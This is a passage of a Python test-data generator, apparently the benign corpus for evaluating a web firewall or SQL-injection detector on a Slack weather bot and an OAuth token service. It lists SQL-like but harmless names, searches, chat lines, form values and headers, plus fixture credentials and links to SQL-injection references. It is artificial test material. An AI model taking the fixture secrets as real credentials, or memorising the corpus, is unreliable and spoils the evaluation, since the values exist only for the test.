    "select the 'Set as my location' button under the weather reply, not the link",
    "ran SELECT count(*) FROM users WHERE is_active; on the replica: 1,284 active users",
    "heads up: we're deleting usage_log rows older than 90 days on Sunday night",
    "order by created_at desc is the default on the audit page, newest first",
    "TokenDealer takes Basic auth or client_id/client_secret in the form for the client_credentials grant",
    "ran migration 0210_alert_delivery_intents on staging -- all green",
    "O'Brien's account was deactivated by mistake, I re-enabled it from /admin/users",
    "can we add a sort option to /api/users? right now it's always ordered by id",
    "between 07:00 and 08:00 UTC the alert worker sends most of the DMs",
    "the LIKE search in the admin panel treats % and _ as wildcards, fine for admins I think",
    "bug: searching 'ann_' in /admin/users also matches 'anna' because the underscore is a wildcard",
    "Jeeves said 'Sorry, I did not understand that' to 'weather in Rio de Janeiro?', fixed in place_text",
    "remember location Ben & Jerry's works now that slack_text undoes &amp;",
    "pg_dump of the jeeves database is 2.3 GB, restore takes about 6 minutes",
    "where do I set the scopes for the reporting client? it needs read only",
    "new hire checklist: map your Slack user with map-slack --username NAME --team T0123 --user U0123",
    "the insert into alert_deliveries happens before the DM goes out; that's the whole point of the intent row",
    "I'd like to update my location to Zürich but the bot keeps saying it can't find it",
    "is the jobs queue ordered by run_at or by id? seeing alerts out of order",
    "Grafana: edge_waf_requests_total by decision, 1h window, looks normal after the deploy",
    "the weather API was down between 14:02 and 14:17, alerts were retried with backoff",
    "the HAVING clause in the usage report was wrong and counts were doubled, fixed in #412",
    "backend dev, PostgreSQL nerd, likes long walks through the query planner",
    "SRE at Acme. On call for Jeeves and TokenDealer. Coffee: black. Editor: vim",
    "data analyst - SQL, Python, dashboards; ask me about the usage stats",
    "does /oauth/revoke accept token_type_hint=refresh_token? we don't issue refresh tokens anyway",
    "introspection answers {\"active\": false} for expired tokens, as RFC 7662 says",
    "audience=tokendealer is only for the admin API; everything else gets the default jeeves audience",
    "alert_time is HH:MM 24h, e.g. 07:30; '7.30am' is rejected",
    "config units imperial, switched mine, temperatures now in °F",
    "alerts on! let's see if the 07:30 DM shows up tomorrow",
    "forget me asks first with Yes, forget me / Cancel buttons, nice touch",
    "who has the write scope on the data API besides jeeves-worker?",
    "a select few of us are admins in the panel; ping #ops if you need access",
    "the admin search does a seq scan; with 50k users it's still under 20 ms",
    "we use SQLAlchemy with bound parameters everywhere, no string-built SQL in the app",
    "the sleep(2) in the demo script only lets the fake Slack catch up",
    "America/Argentina/Buenos_Aires works, 'Buenos Aires' doesn't; it needs the IANA name",
    "union members have Monday off; the on-call rotation is updated",
    "seen in the log: client_id=demo-client outcome=invalid_client, someone still has the old secret",
    "release notes 2.4: faster /admin/users search, audit log paging, Slack sign-in for admins",
    "release notes 2.5: /me/data.json export, forget me audit entry, units in App Home",
    "the email column is nullable; users who never signed in with Slack have none",
    "note to self: select * from jobs where state = 'failed' shows last_error for the alert retries",
    "benchmark: 4,200 requests/s through the edge with the WAF on, p99 at 11 ms",
    "/api/usage/stats?since=2024-06-01 says since must be before until - my until was in UTC, since wasn't",
    "weather London and weather London, Ontario give different places, by design",
    "let's group by team when we report usage to finance",
    "the exec summary of the pentest is in the drive under Security/2024",
    "is /me/data.json available as CSV too? no, JSON only",
    "admin password resets are manual through the CLI, no email flow",
    "we're moving the Oracle billing tables to PostgreSQL next quarter; Jeeves isn't affected",
    "is MySQL still used anywhere? only the old wiki, I think",
    "MongoDB for the analytics prototype was dropped, everything lives in Postgres now",
    "the $where clauses in the old Mongo reports were slow, we replaced them with an aggregation",
    "a --dry-run flag for tokendealer.cli keys retire would be nice",
    "remember location with an apostrophe, like L'Aquila or Côte d'Ivoire, works after the fix",
    "the drop in active users on Monday was the deactivation script, not churn",
    "tried 'weather New York, NY' and 'weather NYC' - both work now",
    "1,000 users between 9 and 10am hit /me/ after the announcement, no errors",
    "the 'in' in 'weather in Sydney tomorrow?' is dropped by place_text, as it should be",
]
USER_SEARCHES = [
    "O'Brien", "ann", "anna_k", "U04ANNA7Q2", "T061EG9R6", "@example.org", "d'Angelo", "Smith-Jones",
    "Union Square Cafe", "order", "drop", "Ann Marie", "mc", "José", "Zoë", "null", "admin", "ops",
    "jean-luc", "o'neil", "ann@example.org", "Selecta", "Like", "Between", "Grant", "Having", "Joiner",
    "Dee Dee", "Lee-Ann O'Connor", "Ö", "Nguyễn", "李", "1234", "42", "true", "team T061", "U0", "sleep",
    "Bench", "Mark Cast", "Concat", "Waite",
]
AUDIT_SEARCHES = [
    "user.active", "user.admin", "user.forget_me", "switch", "client.disabled", "login.failed", "totp",
    "slack", "rotate", "ops", "reporting-bot", "T061EG9R6/U04ANNA7Q2", "admin", "weather", "enabled",
]
URLS = [
    "https://api.slack.com/apps",
    "https://api.slack.com/authentication/verifying-requests-from-slack",
    "https://slack.com/openid/connect/keys",
    "https://www.postgresql.org/docs/16/functions-string.html",
    "https://www.postgresql.org/docs/16/sql-copy.html",
    "https://www.postgresql.org/docs/16/functions-matching.html#FUNCTIONS-LIKE",
    "https://www.postgresql.org/docs/16/queries-order.html",
    "https://docs.sqlalchemy.org/en/20/core/sqlelement.html#sqlalchemy.sql.expression.ColumnOperators.ilike",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://cwe.mitre.org/data/definitions/89.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2019-9193",
    "https://datatracker.ietf.org/doc/html/rfc6749#section-4.4",
    "https://datatracker.ietf.org/doc/html/rfc7662",
    "https://datatracker.ietf.org/doc/html/rfc9068",
    "https://www.mongodb.com/docs/manual/reference/operator/query/where/",
    "https://dev.mysql.com/doc/refman/8.0/en/comments.html",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://github.com/acme/jeeves/issues/412",
    "https://open-meteo.com/en/docs",
    "https://localhost:8443/admin/users?q=o%27brien&page=2",
    "https://localhost:8443/admin/audit?q=user.login&page=3",
    "https://www.sqlite.org/lang_select.html",
    "https://docs.python.org/3/library/sqlite3.html#sqlite3-placeholders",
    "https://portswigger.net/web-security/sql-injection/union-attacks",
]
DESCRIPTIONS = [
    "Nightly reporting job: reads /api/users and /api/usage/stats, no writes",
    "Grafana datasource for usage stats (read only, owned by the data team)",
    "Pentest 2024-06: temporary client for the external testers, disable after the report",
    "Billing sync - selects active users once a day and posts counts to finance",
    "Used by the status page to check that tokens can be issued; scope read",
    "CI smoke tests: issues a token, calls /api/users?limit=1, revokes it",
    "Old integration from the Oracle migration, keep until Q3 then drop",
    "Union Street office kiosk showing the weather of all locations",
    "Owner: ops team (O'Neil). Rotate the secret every 90 days",
    "Slack workflow bot: reads feature switches, never changes them",
    "Analytics export; group by team, order by day; runs at 02:00 UTC",
    "Between-sprint experiment for alert timing, remove by end of July",
    "Like the reporting client but for the EU workspace",
    "Mobile app backend (iOS and Android) - read and write",
    "Data warehouse loader: copies usage_log into BigQuery nightly",
    "Select customers' dashboards (enterprise plan only)",
    "Load test client for the edge; 200 req/s max, staging only",
    "Replaces the client created by mistake on 2024-05-02 (see audit log)",
    "Support tool: looks up a user by Slack id when someone writes to help@",
    "Test client for the MySQL-to-Postgres migration dry run",
    "Temporary: investigating 'invalid_client' errors from the worker",
    "Security team scanner (read only); contact security@example.org",
    "Raspberry Pi weather display in the kitchen, 5-minute polling",
    "Team dashboard: counts per action (weather, remember location, alerts)",
    "Customer success: exports of users where alerts are on",
    "Old wiki bot; will be dropped when the wiki moves",
    "Uptime checker - calls /healthz and /readyz only",
    "Marketing site widget (today's weather in HQ city)",
    "Escalation bot: pages on-call when the alert worker fails 3 times",
    "Internal hackathon 2024 team 'Drop Table Tennis' demo client",
]
PROFILES = [
    ("Siobhán O'Brien", "siobhan.obrien@example.org"), ("Jean-Luc D'Arcy", "jl.darcy@example.fr"),
    ("Ann Select", "ann.select@example.com"), ("Marc Union", "marc.union@example.com"),
    ("Dee Order", "dee@example.net"), ("Bill Drop", "bill.drop@example.co.uk"), ("Zoë Müller", "zoe@example.de"),
    ("José Núñez", "jose.nunez@example.es"), ("Nguyễn Thị Lan", "lan.nguyen@example.vn"),
    ("Grace Having", "grace.h@example.org"), ("Ray Like", "ray.like@example.com"),
    ("Ben Tween", "ben.tween@example.com"), ("Liam Cast", "liam.cast@example.ie"),
    ("Priya Sleep", "priya@example.in"), ("Tom Waite", "tom.waite@example.com"),
    ("Ola Nordmann", "ola@example.no"), ("Ana-María López-Ortiz", "ana.lopez+jeeves@example.mx"),
    ("Kim \"KJ\" Jones", "kj@example.com"), ("Lee Group", "lee.group@example.sg"), ("R. Null", "rnull@example.org"),
]
COMMANDS = [
    "weather Paris", "weather São Paulo", "remember location Côte d'Ivoire", "remember location L'Aquila",
    "weather in Sydney tomorrow?", "config units imperial", "config alert_time 06:45",
    "config timezone America/Los_Angeles", "alerts on", "alerts off", "my location", "forget location", "help",
    "login", "weather Ben & Jerry's, Waterbury VT", "remember location 10 Downing St, London",
    "weather St. John's, NL", "weather Union, NJ", "weather Between, GA", "weather Drop, Texas",
]
PLACES = [
    "Zürich", "Reykjavík", "L'Aquila", "Côte d'Ivoire", "St. John's", "Union City, NJ", "Ho Chi Minh City",
    "Sankt Peterburg", "Washington, D.C.", "O'Fallon, Missouri", "Kraków", "Tōkyō",
]
TIMEZONES = [
    "Europe/Paris", "America/Argentina/Buenos_Aires", "Asia/Kolkata", "Australia/Lord_Howe", "Etc/GMT-14",
    "America/Port-au-Prince", "Pacific/Chatham", "UTC",
]
OAUTH = [
    [("grant_type", "client_credentials"), ("scope", "read")],
    [("grant_type", "client_credentials"), ("scope", "read write")],
    [("grant_type", "client_credentials"), ("scope", "clients:admin"), ("audience", "tokendealer")],
    [("grant_type", "client_credentials"), ("audience", "jeeves")],
    [("grant_type", "client_credentials"), ("client_id", "reporting-bot"),
     ("client_secret", "h7-Qx_2LpVw9'Rt4*Yb1-Nc6(Kd3)Jf8"), ("scope", "read")],
    [("grant_type", "client_credentials"), ("client_id", "o-brien-test"), ("scope", "read")],
    [("grant_type", "client_credentials"), ("client_id", "drop-table-tennis-demo"), ("scope", "read")],
    [("grant_type", "client_credentials"), ("client_id", "select-dashboards"), ("scope", "read")],
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Grafana/11.0.0"),
    ("User-Agent", "python-httpx/0.27.0"),
    ("User-Agent", "PostmanRuntime/7.39.0"),
    ("User-Agent", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Mobile/15E148 Slack/24.06.10"),
    ("X-Request-Id", "reporting-bot:2024-06-01:nightly"),
    ("X-Request-Id", "7b0c6f2e-1d4a-4e8b-9c3f-5a2d8e1f0b47"),
    ("X-Forwarded-For", "203.0.113.10"),
    ("Accept-Language", "en-IE,en;q=0.9,ga;q=0.8"),
    ("Referer", "https://localhost:8443/admin/users?q=o%27brien&page=1"),
    ("Referer", "https://localhost:8443/admin/audit?q=user.forget_me"),
    ("Cookie", ADMIN_COOKIE + "; theme=dark"),
    ("Authorization", "Bearer eyJhbGciOiJFUzI1NiIsInR5cCI6ImF0K2p3dCIsImtpZCI6IlF3ZXJ0eSJ9.eyJzdWIiOiJyZXBvcnRpbm"
                      "ctYm90Iiwic2NvcGUiOiJyZWFkIn0.c2lnbmF0dXJl"),
]


def _slack_text(text: str, n: int) -> dict[str, Any]:
    return _slack_event("text", text, 5000 + n)


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(CHAT, prefix)
    n = yield from numbered((_query_request("/admin/users", "q", q) for q in USER_SEARCHES),
                            f"{prefix}-search", n, "query:/admin/users:q")
    n = yield from numbered((_query_request("/admin/audit", "q", q) for q in AUDIT_SEARCHES),
                            f"{prefix}-audit-search", n, "query:/admin/audit:q")
    n = yield from numbered((_request("GET", "/admin/users?page=1", Cookie=ADMIN_COOKIE, Referer=u) for u in URLS),
                            f"{prefix}-referer", n, "header:Referer")
    n = yield from numbered((_slack_text(f"see <{u}> for the details", k) for k, u in enumerate(URLS)),
                            f"{prefix}-link", n, "slack-event:text")
    n = yield from numbered((_form_request("/admin/clients", "description", d) for d in DESCRIPTIONS),
                            f"{prefix}-client", n, "form:/admin/clients:description")
    n = yield from numbered((_api_json("PATCH", f"/api/users/{100 + k}", {"name": who, "email": mail})
                             for k, (who, mail) in enumerate(PROFILES)), f"{prefix}-profile", n, "json")
    n = yield from numbered((_slack_command("text", c, 9000 + k) for k, c in enumerate(COMMANDS)),
                            f"{prefix}-command", n, "slack-command:text")
    n = yield from numbered((_form_request("/me/location", "place", p) for p in PLACES),
                            f"{prefix}-place", n, "form:/me/location:place")
    n = yield from numbered((_form_request("/me/settings", "timezone", t) for t in TIMEZONES),
                            f"{prefix}-timezone", n, "form:/me/settings:timezone")
    basic = _basic("demo-client", "q1W2e3R4t5Y6u7I8o9P0a1S2d3F4g5H6j7K8l9Z0x1C")
    n = yield from numbered((_request("POST", "/oauth/token", urllib.parse.urlencode(f), FORM_CT, Authorization=basic)
                             for f in OAUTH), f"{prefix}-oauth", n, "oauth:/oauth/token")
    yield from numbered((_request("GET", "/api/users?limit=50", **{k: v}) for k, v in BENIGN_HEADERS),
                        f"{prefix}-header", n, "header")


if __name__ == "__main__":
    print_records(attacks(), benign())
